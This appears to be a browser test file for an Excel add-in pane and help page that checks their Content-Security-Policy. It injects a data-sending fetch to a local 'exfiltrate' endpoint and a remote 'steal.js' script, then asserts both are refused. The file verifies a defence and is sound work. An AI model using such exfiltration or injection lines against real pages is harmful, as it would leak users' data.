// The pane's Content-Security-Policy (issue 13 item 8) in Chromium: a fetch to another origin
// and a script from another site, injected into the page, are refused by the policy itself
// (a securitypolicyviolation, and no request ever leaves), while the pane loads without any
// violation and browser mode still opens the sample workbook. The help page Excel's formula help
// links to keeps the same policy and still lists the functions. Needs `npm run build` first.
import { openPaneBrowser, type PaneBrowser } from "../support/paneBrowser";

interface Violation {
  readonly directive: string;
  readonly blocked: string;
}

// Installed before the pane's scripts, so not one violation of the pane's own loading is missed.
const RECORD_VIOLATIONS = `window.__violations = [];
document.addEventListener("securitypolicyviolation", (event) => window.__violations.push({ directive: event.effectiveDirective, blocked: event.blockedURI }));`;

const violations = (browser: PaneBrowser) => browser.page.evaluate(() => (window as unknown as { __violations: Violation[] }).__violations);

describe("Content-Security-Policy of the pane", () => {
  let browser: PaneBrowser;
  beforeAll(async () => {
    browser = await openPaneBrowser({ viewport: { width: 1280, height: 800 }, office: "none", initScripts: [{ content: RECORD_VIOLATIONS }] });
    browser.page.setDefaultTimeout(15_000);
    await browser.page.locator("#open-file").waitFor();
  }, 60_000);
  afterAll(async () => {
    await browser?.close();
  });

  it("is set by the page: scripts from itself and Office's CDN, connect-src itself only", async () => {
    const policy = await browser.page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute("content") ?? "");
    expect(policy).toContain("script-src 'self' https://appsforoffice.microsoft.com;");
    expect(policy).toContain("connect-src 'self';");
    expect(policy).not.toMatch(/\*|'unsafe-eval'/);
  });

  it("the pane loads and browser mode opens the sample workbook without a single violation", async () => {
    await browser.page.click("#try-sample");
    await browser.page.locator("#sheet-grid").waitFor();
    await expect(browser.page.locator("#file-name").textContent()).resolves.toBe("sample-aging.xlsx");
    expect(await violations(browser)).toEqual([]);
    expect(browser.pageErrors).toEqual([]);
  });

  it("refuses an injected fetch to another origin before it leaves the page", async () => {
    const target = "http://127.0.0.1:9/exfiltrate";
    const outcome = await browser.page.evaluate((url) => fetch(url, { method: "POST", body: "the books" }).then(() => "sent", () => "refused"), target);
    expect(outcome).toBe("refused");
    await browser.page.waitForFunction(() => (window as unknown as { __violations: Violation[] }).__violations.length > 0);
    expect(await violations(browser)).toContainEqual({ directive: "connect-src", blocked: target });
    expect(browser.outsideRequests).not.toContain(target); // refused by the policy, not by the test's network
  });

  it("refuses a script injected from another site", async () => {
    const target = "https://scripts.example/steal.js";
    await browser.page.evaluate((url) => {
      const script = document.createElement("script");
      script.src = url;
      document.head.append(script);
    }, target);
    await browser.page.waitForFunction((url) => (window as unknown as { __violations: Violation[] }).__violations.some((violation) => violation.blocked === url), target);
    expect(await violations(browser)).toContainEqual({ directive: "script-src-elem", blocked: target });
    expect(browser.outsideRequests).not.toContain(target);
  });
});

describe("Content-Security-Policy of the help page", () => {
  let browser: PaneBrowser;
  beforeAll(async () => {
    browser = await openPaneBrowser({ viewport: { width: 1000, height: 800 }, office: "none", initScripts: [{ content: RECORD_VIOLATIONS }], path: "assets/help.html#NEXTACTION" });
    browser.page.setDefaultTimeout(15_000);
  }, 60_000);
  afterAll(async () => {
    await browser?.close();
  });

  it("is the pane's policy, and the page still lists every function from functions.json without a violation", async () => {
    const policy = await browser.page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute("content") ?? "");
    expect(policy).toContain("script-src 'self' https://appsforoffice.microsoft.com;");
    expect(policy).toContain("connect-src 'self';");
    await browser.page.locator("section#NEXTACTION h2").waitFor();
    await expect(browser.page.locator("section#DAYSOVERDUE h2").textContent()).resolves.toMatch(/^=AR\.DAYSOVERDUE\(/);
    expect(await violations(browser)).toEqual([]);
    expect(browser.pageErrors).toEqual([]);
  });

  it("refuses an injected fetch to another origin and an inline script", async () => {
    const target = "http://127.0.0.1:9/exfiltrate";
    const outcome = await browser.page.evaluate((url) => fetch(url, { method: "POST", body: "the books" }).then(() => "sent", () => "refused"), target);
    expect(outcome).toBe("refused");
    const ran = await browser.page.evaluate(() => {
      const script = document.createElement("script");
      script.textContent = "window.__inlineRan = true;";
      document.head.append(script);
      return (window as unknown as { __inlineRan?: boolean }).__inlineRan === true;
    });
    expect(ran).toBe(false);
    await browser.page.waitForFunction(() => (window as unknown as { __violations: Violation[] }).__violations.some((violation) => violation.blocked === "inline"));
    expect(await violations(browser)).toContainEqual({ directive: "connect-src", blocked: target });
    expect(browser.outsideRequests).not.toContain(target);
  });
});
